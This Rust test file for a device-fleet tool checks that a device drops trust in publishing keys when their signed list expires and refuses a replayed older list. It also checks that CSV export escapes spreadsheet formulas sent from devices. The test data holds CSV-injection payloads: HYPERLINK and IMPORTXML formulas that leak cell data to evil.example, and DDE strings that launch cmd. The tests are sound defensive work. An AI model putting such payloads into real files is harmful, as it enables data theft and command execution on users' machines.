//! Issue 55, point 8, against an adversary, through the binaries as a user types them:
//! - **a withheld key list**: a device that trusts a root key stops trusting the publishing keys
//!   of the list it holds once that list expires (`trainer keys --expires-in`), whatever an
//!   attacker who withholds the next list (or replays an older one) does; a fresh list brings
//!   them back. On both brokers; every wait is on the device's retained status.
//! - **formulas from devices**: `trainer label --export` writes the strings a device chose (its
//!   model name, predicted label, reason, even its id) as text a spreadsheet does not run, the
//!   CSV still parses, and the exported file labels its rows again with `trainer label --from`.

use std::cell::RefCell;
use std::path::Path;
use std::time::Duration;

use kestrel_fleet::Conn;
use kestrel_shared::capture::Capture;
use kestrel_shared::mqtt::BrokerConfig;
use kestrel_shared::now_unix;
use kestrel_shared::protocol::{Class, DEFAULT_KEYS_VALIDITY_S, Status};
use kestrel_shared::topics::Topics;
use kestrel_shared::wire::{CaptureReason, DeviceState};
use kestrel_tests::fleet::{
    Broker, BrokerKind, Proc, agent_config, fixture, publish_ok, start_agent,
};
use kestrel_tests::{Scratch, lfw, python, run, s, stderr, stdout, trainer_ok};

#[test]
fn a_withheld_key_list_stops_being_trusted_on_mosquitto() {
    a_withheld_key_list_stops_being_trusted(BrokerKind::Mosquitto);
}

#[test]
fn a_withheld_key_list_stops_being_trusted_on_rumqttd() {
    a_withheld_key_list_stops_being_trusted(BrokerKind::Rumqttd);
}

/// How long the list the attacker withholds the successor of is valid (seconds).
const SHORT_S: u64 = 20;

/// Waits (on the device's retained status, as it is published) until `done` holds; panics after
/// `secs` with the agent's log.
fn wait(
    cfg: &BrokerConfig,
    device: &str,
    agent: &Proc,
    secs: u64,
    what: &str,
    done: impl Fn(&Status) -> bool,
) -> Status {
    kestrel_fleet::wait_status(cfg, device, Duration::from_secs(secs), done).unwrap_or_else(|e| {
        panic!(
            "waiting for {device}: {what}: {e}\nagent log:\n{}",
            agent.output()
        )
    })
}

/// A device trusting a root key and the fixture's publishing key A: `--expires-in 0` is refused
/// and puts nothing on the broker; list v1 (the default 30 days) and a model signed by A go in;
/// list v2 (A again) expires in [`SHORT_S`] and no newer list comes (the attacker withholds it).
/// Not before the expiry, but once it passes, the device reports that it trusts no publishing
/// key (`keys_version` null, `refused` names the expired list), keeps serving v1, refuses v2
/// signed by A naming the expired list, and refuses the older v1 list the attacker puts back
/// (still valid, a downgrade). A fresh list v3 brings A back, and the device follows v2 (the
/// desired state it refused, asked for again).
// long-function: one attack's story in order (list, lapse, refusal, downgrade, renewal)
fn a_withheld_key_list_stops_being_trusted(kind: BrokerKind) {
    let w = Scratch::new();
    let f = fixture();
    // Copies of the shared fixture's key A and artifacts: a test run started meanwhile (another
    // checkout sharing the target directory) builds the fixture again, keys included.
    let (key_dir, art_v1, art_v2) = (w.join("key-a"), w.join("v1"), w.join("v2"));
    for (from, to) in [(&f.keys, &key_dir), (&f.v1, &art_v1), (&f.v2, &art_v2)] {
        kestrel_tests::copy_dir(from, to);
    }
    let key_a = key_dir.join("kestrel.key");
    let b = Broker::start(kind, &w.join("broker"));
    let url = b.url();
    let root_dir = w.join("root");
    trainer_ok(&["keygen", "--root", "--out", &s(&root_dir)]);
    let root = s(&root_dir.join("root.key"));
    let pub_a = s(&key_dir.join("kestrel.pub"));
    let device = "pi-expiry";
    let cfg = agent_config(&w.join(device), device, &url, &key_dir, "");
    trust_root(&cfg, &root_dir.join("root.pub"));
    let agent = start_agent(&cfg, &[]);
    let keys = |args: &[&str]| {
        let mut all = vec![
            "keys",
            "--broker",
            &url,
            "--root-key",
            &root,
            "--publisher",
            &pub_a,
            "--json",
        ];
        all.extend_from_slice(args);
        run("trainer", &all)
    };
    let topics = Topics::default();
    let retained_list = || {
        let mut c = Conn::connect(&b.config(), "reader").unwrap();
        let r = c
            .retained(&topics.keys(), Duration::from_millis(700))
            .unwrap()
            .remove(&topics.keys());
        c.disconnect();
        r.filter(|p| !p.is_empty())
    };

    // A list that expires at once is no list: refused before the broker is touched.
    for bad in ["0", "soon"] {
        let o = keys(&["--expires-in", bad]);
        assert!(!o.status.success(), "--expires-in {bad}: {}", stdout(&o));
        let e = stderr(&o);
        assert!(e.contains("--expires-in") && e.contains(bad), "{e}");
    }
    assert_eq!(retained_list(), None, "a refused list is not published");

    // v1 with the default validity, then a model signed by A.
    let before = now_unix();
    let o = keys(&[]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v1 = kestrel_tests::json(&o);
    assert_eq!(v1["version"], 1, "{v1}");
    let expires = v1["expires"].as_u64().expect("expires");
    assert!(
        (before + DEFAULT_KEYS_VALIDITY_S..=now_unix() + DEFAULT_KEYS_VALIDITY_S)
            .contains(&expires),
        "30 days by default: {v1}"
    );
    assert_eq!(DEFAULT_KEYS_VALIDITY_S, 30 * 24 * 3600);
    wait(&b.config(), device, &agent, 60, "key list v1", |st| {
        st.keys_version == Some(1)
    });
    let old_list = retained_list().expect("the v1 list is retained");
    let target = format!("device/{device}");
    publish_ok(&b, &art_v1, &key_a, &target);
    wait(&b.config(), device, &agent, 120, "v1 active", |st| {
        st.active == Some(1) && st.state == DeviceState::Idle
    });

    // v2 expires soon, and nothing newer comes.
    let before = now_unix();
    let o = keys(&["--expires-in", &SHORT_S.to_string()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v2 = kestrel_tests::json(&o);
    assert_eq!(
        (v2["version"].as_u64(), v2["replaced"].as_u64()),
        (Some(2), Some(1)),
        "{v2}"
    );
    let expires = v2["expires"].as_u64().expect("expires");
    assert!(
        (before + SHORT_S..=now_unix() + SHORT_S).contains(&expires),
        "{v2}"
    );
    wait(&b.config(), device, &agent, 60, "key list v2", |st| {
        st.keys_version == Some(2)
    });
    assert!(
        now_unix() < expires,
        "the machine is too slow for a {SHORT_S} s list: v2 was in force only after it expired"
    );
    // Every status until the lapse is watched: none may drop the keys before the expiry.
    let early = RefCell::new(None::<(u64, Status)>);
    let st = wait(
        &b.config(),
        device,
        &agent,
        SHORT_S + 60,
        "the key list v2 lapses",
        |st| {
            let now = now_unix();
            if st.keys_version.is_none() && now < expires {
                early.borrow_mut().get_or_insert_with(|| (now, st.clone()));
            }
            st.keys_version.is_none()
                && st
                    .refused
                    .as_deref()
                    .is_some_and(|r| r.contains("key list v2 expired at"))
        },
    );
    if let Some((now, st)) = early.take() {
        panic!("keys dropped at {now}, before the expiry at {expires}: {st:?}");
    }
    let now = now_unix();
    assert!(now >= expires, "lapsed before {expires}: {st:?}");
    // The device's own clock does it (no message needs to arrive), within a few ticks.
    assert!(
        now <= expires + 15,
        "lapse seen at {now}, {expires} + 15 s: {st:?}"
    );
    let why = st.refused.clone().unwrap_or_default();
    assert!(
        why.starts_with("kestrel/keys: ") && why.contains("no longer trusted"),
        "{why}"
    );
    assert_eq!(
        (st.active, st.state.as_str(), st.target),
        (Some(1), "idle", None),
        "v1 keeps serving: {st:?}"
    );

    // A model signed by A, the key the expired list named: refused, saying why.
    publish_ok(&b, &art_v2, &key_a, &target);
    let st = wait(&b.config(), device, &agent, 60, "v2 refused", |st| {
        st.refused
            .as_deref()
            .is_some_and(|r| r.starts_with("desired state refused"))
    });
    let why = st.refused.clone().unwrap_or_default();
    assert!(why.contains("key list v2 expired at"), "{why}");
    assert_eq!(
        (st.active, st.target, st.keys_version),
        (Some(1), None, None),
        "{st:?}"
    );

    // The attacker puts the older list back (signed by the root, still valid for 30 days): a
    // downgrade, refused; no key comes back.
    let mut c = Conn::connect(&b.config(), "attacker").unwrap();
    c.publish_all(vec![(topics.keys(), old_list, true)], None)
        .unwrap();
    c.disconnect();
    let st = wait(
        &b.config(),
        device,
        &agent,
        60,
        "the replayed v1 list refused",
        |st| {
            st.refused
                .as_deref()
                .is_some_and(|r| r.contains("key list v1 refused") && r.contains("downgrade"))
        },
    );
    assert_eq!((st.active, st.keys_version), (Some(1), None), "{st:?}");

    // A fresh list (v3: above the v2 the device holds, whatever is retained now): A is trusted
    // again and the device follows the v2 it refused.
    let o = keys(&["--list-version", "3", "--expires-in", "3600"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v3 = kestrel_tests::json(&o);
    assert_eq!(
        (v3["version"].as_u64(), v3["replaced"].as_u64()),
        (Some(3), Some(1)),
        "{v3}"
    );
    wait(
        &b.config(),
        device,
        &agent,
        60,
        "key list v3 in force",
        |st| st.keys_version == Some(3),
    );
    let st = wait(
        &b.config(),
        device,
        &agent,
        120,
        "v2 active under key list v3 (the retained desired state it refused during the lapse, \
         read again once a newer list is in force)",
        |st| st.keys_version == Some(3) && st.active == Some(2) && st.state == DeviceState::Idle,
    );
    assert_eq!(st.previous, Some(1), "{st:?}");
}

/// Adds `trusted_root` to an agent config.
fn trust_root(cfg: &Path, root_pub: &Path) {
    let text = std::fs::read_to_string(cfg).unwrap().replacen(
        "[broker]",
        &format!("trusted_root = \"{}\"\n[broker]", root_pub.display()),
        1,
    );
    std::fs::write(cfg, text).unwrap();
}

/// One capture as a device publishes it (the payload names the device and id its topic does).
struct Hostile {
    device: &'static str,
    id: &'static str,
    model: &'static str,
    predicted: &'static str,
    score: f32,
    reason: &'static str,
}

impl Hostile {
    fn path(&self) -> String {
        format!("{}/{}", self.device, self.id)
    }
}

/// Formula-leading characters a spreadsheet evaluates (and the tab and CR OWASP lists).
const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Captures from devices whose every free field is a spreadsheet formula (and one device whose
/// id itself begins with `-`, a valid name) are collected by `trainer collect` and exported by
/// `trainer label --export`: each cell that came from a device and begins with a formula
/// character is written with a leading `'` (one that begins with `'` gets another), the others
/// as they were; Python's csv module reads the file back row for row (quoted commas, quotes and
/// line breaks); and the exported file, its label column filled in by a tool that rewrites it,
/// labels exactly its rows with `trainer label --from` (the escaped paths name their rows).
#[test]
// long-function: one export's story (hostile captures, collect, export, read back, label)
fn label_export_escapes_formulas_from_devices() {
    let w = Scratch::new();
    let b = Broker::start(BrokerKind::Rumqttd, &w.join("broker"));
    let table = w.join("captures");
    let collect = |idle_s| super::capture::collect(&b, &table, "labeller", idle_s);
    // The session first, so that the broker keeps the captures while collect is away.
    assert_eq!(collect(1)["stored"], 0);

    let hostile = [
        Hostile {
            device: "pi-hostile",
            id: "1-1",
            model: r#"=HYPERLINK("http://evil.example/?leak="&A1,"open me")"#,
            predicted: "+cmd|' /C calc'!A0",
            score: 0.9,
            reason: "@SUM(1+1)*cmd|' /C calc'!A0",
        },
        Hostile {
            device: "-evil",
            id: "-2",
            model: "-2+3+cmd|' /C calc'!A0",
            predicted: "\t=1+1",
            score: -0.5,
            reason: "\r\n=2+2, \"quoted\"",
        },
        Hostile {
            device: "pi-quote",
            id: "1-3",
            model: "'=already text",
            predicted: "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
            score: 0.25,
            reason: "low=confidence",
        },
        Hostile {
            device: "pi-honest",
            id: "1-4",
            model: "lfw",
            predicted: "face",
            score: 0.75,
            reason: "random",
        },
    ];
    let face = std::fs::read(Path::new(&lfw()).join("face/000.png")).unwrap();
    let topics = Topics::default();
    for h in &hostile {
        // Each as the device itself, on its own topic.
        let payload = serde_json::to_vec(&Capture {
            id: h.id.into(),
            device: h.device.into(),
            request: "r".into(),
            model: h.model.into(),
            version: 1,
            top: vec![Class {
                class: 0,
                label: h.predicted.into(),
                score: h.score,
            }],
            reason: CaptureReason::parse(h.reason),
            captured_at: "2026-12-04T00:00:00Z".into(),
            content: Capture::encode_content(&face),
        })
        .unwrap();
        let mut c = Conn::connect(&b.config(), h.device).unwrap();
        c.publish_all(vec![(topics.capture(h.device, h.id), payload, false)], None)
            .unwrap();
        c.disconnect();
    }
    let got = collect(2);
    assert_eq!(got["stored"], hostile.len(), "{got}");

    let todo = w.join("todo.csv");
    let o = run(
        "trainer",
        &[
            "label",
            "--table",
            &s(&table),
            "--export",
            &s(&todo),
            "--json",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(kestrel_tests::json(&o)["exported"], hostile.len());
    let raw = std::fs::read_to_string(&todo).unwrap();
    let rows = python_csv(&todo);
    assert_eq!(
        rows[0],
        [
            "path",
            "file",
            "device",
            "model",
            "version",
            "predicted",
            "score",
            "reason",
            "captured_at",
            "label"
        ],
        "{raw}"
    );
    assert_eq!(rows.len(), hostile.len() + 1, "{raw}");
    // The escaping rule, applied to what the device sent.
    let esc = |cell: &str| {
        if cell.starts_with(FORMULA) || cell.starts_with('\'') {
            format!("'{cell}")
        } else {
            cell.to_string()
        }
    };
    for h in &hostile {
        let row = rows[1..]
            .iter()
            .find(|r| r[0] == esc(&h.path()))
            .unwrap_or_else(|| panic!("no row for {}: {raw}", h.path()));
        assert_eq!(row.len(), 10, "{row:?}");
        let cells = |i: [usize; 6]| i.map(|c| row[c].clone());
        assert_eq!(
            cells([0, 2, 3, 5, 6, 7]),
            [
                esc(&h.path()),
                esc(h.device),
                esc(h.model),
                esc(h.predicted),
                esc(&f64::from(h.score).to_string()),
                esc(h.reason),
            ],
            "{raw}"
        );
        assert_eq!(
            (row[4].as_str(), row[8].as_str(), row[9].as_str()),
            ("1", "2026-12-04T00:00:00+00:00", ""),
            "{row:?}"
        );
        assert!(
            w.join(&row[1]).is_file(),
            "the image beside the CSV: {}",
            row[1]
        );
    }
    for (i, cell) in rows.iter().flatten().enumerate() {
        assert!(!cell.starts_with(FORMULA), "cell {i} runs: {cell:?}\n{raw}");
    }
    // The raw text: every record begins with a path, never with a formula character.
    assert!(
        raw.contains("'=HYPERLINK(\"\"http://evil.example/"),
        "{raw}"
    );
    let honest = rows[1..].iter().find(|r| r[0] == "pi-honest/1-4").unwrap();
    assert_eq!(
        (honest[3].as_str(), honest[5].as_str(), honest[7].as_str()),
        ("lfw", "face", "random"),
        "text without a formula is left alone"
    );

    // A labelling tool fills in the label column and writes the file again (every cell quoted);
    // the honest row is left for later.
    let labels = [
        ("pi-hostile/1-1", "cat"),
        ("-evil/-2", "dog"),
        ("pi-quote/1-3", "owl"),
    ];
    let mut filled = String::new();
    for (i, row) in rows.iter().enumerate() {
        let mut row = row.clone();
        if i > 0
            && let Some((_, l)) = labels.iter().find(|(p, _)| esc(p) == row[0])
        {
            row[9] = l.to_string();
        }
        let quoted: Vec<String> = row
            .iter()
            .map(|c| format!("\"{}\"", c.replace('"', "\"\"")))
            .collect();
        filled += &quoted.join(",");
        filled += "\r\n";
    }
    let filled_csv = w.join("filled.csv");
    std::fs::write(&filled_csv, filled).unwrap();
    let o = run(
        "trainer",
        &[
            "label",
            "--table",
            &s(&table),
            "--from",
            &s(&filled_csv),
            "--add-classes",
            "--json",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let v = kestrel_tests::json(&o);
    assert_eq!(
        (v["labelled"].as_u64(), v["unlabelled"].as_u64()),
        (Some(3), Some(1)),
        "{v}"
    );
    // Each label went to its row (Python's deltalake reads the labels table).
    let o = python(
        "import sys, json, deltalake\n\
         t = deltalake.DeltaTable(sys.argv[1] + '/_labels').to_pyarrow_table()\n\
         print(json.dumps(sorted(zip(t.column('path').to_pylist(), t.column('label').to_pylist()))))",
        &[&table],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let mut want: Vec<(String, String)> = labels
        .iter()
        .map(|(p, l)| (p.to_string(), l.to_string()))
        .collect();
    want.sort();
    let got: Vec<(String, String)> = serde_json::from_str(stdout(&o).trim()).unwrap();
    assert_eq!(got, want);
    // Only the honest row is still to label.
    let again = w.join("again.csv");
    let o = run(
        "trainer",
        &[
            "label",
            "--table",
            &s(&table),
            "--export",
            &s(&again),
            "--json",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(kestrel_tests::json(&o)["exported"], 1);
    let rows = python_csv(&again);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][0], "pi-honest/1-4");
}

/// The records of a CSV as Python's csv module reads them (a reader that is not the trainer's).
fn python_csv(path: &Path) -> Vec<Vec<String>> {
    let o = python(
        "import sys, csv, json\n\
         with open(sys.argv[1], newline='') as f:\n    print(json.dumps(list(csv.reader(f, strict=True))))",
        &[path],
    );
    assert!(o.status.success(), "{}: {}", path.display(), stderr(&o));
    serde_json::from_str(stdout(&o).trim()).unwrap()
}
